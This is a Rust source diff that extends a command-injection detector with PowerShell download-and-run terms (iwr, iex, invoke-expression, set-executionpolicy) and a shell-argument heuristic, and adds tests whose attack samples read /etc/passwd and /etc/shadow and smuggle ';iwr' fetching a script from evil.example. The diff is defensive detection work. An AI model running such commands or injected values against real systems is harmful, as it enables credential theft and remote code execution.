@@ -148,6 +148,15 @@ const COMMANDS: &[&str] = &[
     "traceroute",
     "tracert",
     "whois",
+    // PowerShell's download-and-run vocabulary, with its aliases.
+    "iwr",
+    "iex",
+    "irm",
+    "invoke-webrequest",
+    "invoke-expression",
+    "invoke-restmethod",
+    "start-process",
+    "set-executionpolicy",
 ];
 
 /// Commands common as English words: they need shell-looking arguments to count.
@@ -397,7 +406,17 @@ pub fn detect(lower: &str, out: &mut Vec<Finding>) {
             name,
             "whoami" | "uname" | "ifconfig" | "ipconfig" | "netstat" | "systeminfo" | "tasklist"
         );
-        if (args == 2 && !WORDY.contains(&name) && trimmed.len() > end)
+        // Every argument shaped like a shell's (an option, a path, a variable): `cat
+        // /etc/passwd`, `sort -r ~/.ssh/known_hosts`, where "cat /etc/hosts shows the hosts"
+        // is a sentence.
+        let shell_only = trimmed.len() > end
+            && trimmed[end..].split_whitespace().all(|arg| {
+                arg.starts_with(['-', '/', '.', '~', '$', '%', '\\', '>', '<', '|'])
+                    || (arg.len() >= 3
+                        && arg.as_bytes()[1] == b':'
+                        && arg.as_bytes()[0].is_ascii_alphabetic())
+            });
+        if (args == 2 && (!WORDY.contains(&name) || shell_only) && trimmed.len() > end)
             || (recon && trimmed[end..].trim().is_empty())
             || (recon && args == 2)
         {
@@ -779,6 +798,28 @@ mod tests {
                 severity(attack).is_some_and(|s| s >= Severity::High),
                 "missed {attack:?}: {:?}",
                 severity(attack)
+            );
+        }
+    }
+
+    #[test]
+    fn a_command_line_as_the_value_is_a_command() {
+        for attack in [
+            "cat /etc/passwd",
+            "cat /etc/shadow",
+            "type C:\\Windows\\win.ini",
+            ";iwr http://evil.example/x.ps1",
+        ] {
+            assert_eq!(severity(attack), Some(Severity::High), "missed {attack:?}");
+        }
+        for prose in [
+            "cat /etc/hosts shows the hosts file",
+            "cat and dog",
+            "sort by name",
+        ] {
+            assert!(
+                severity(prose).is_none_or(|s| s < Severity::High),
+                "{prose:?}"
             );
         }
     }
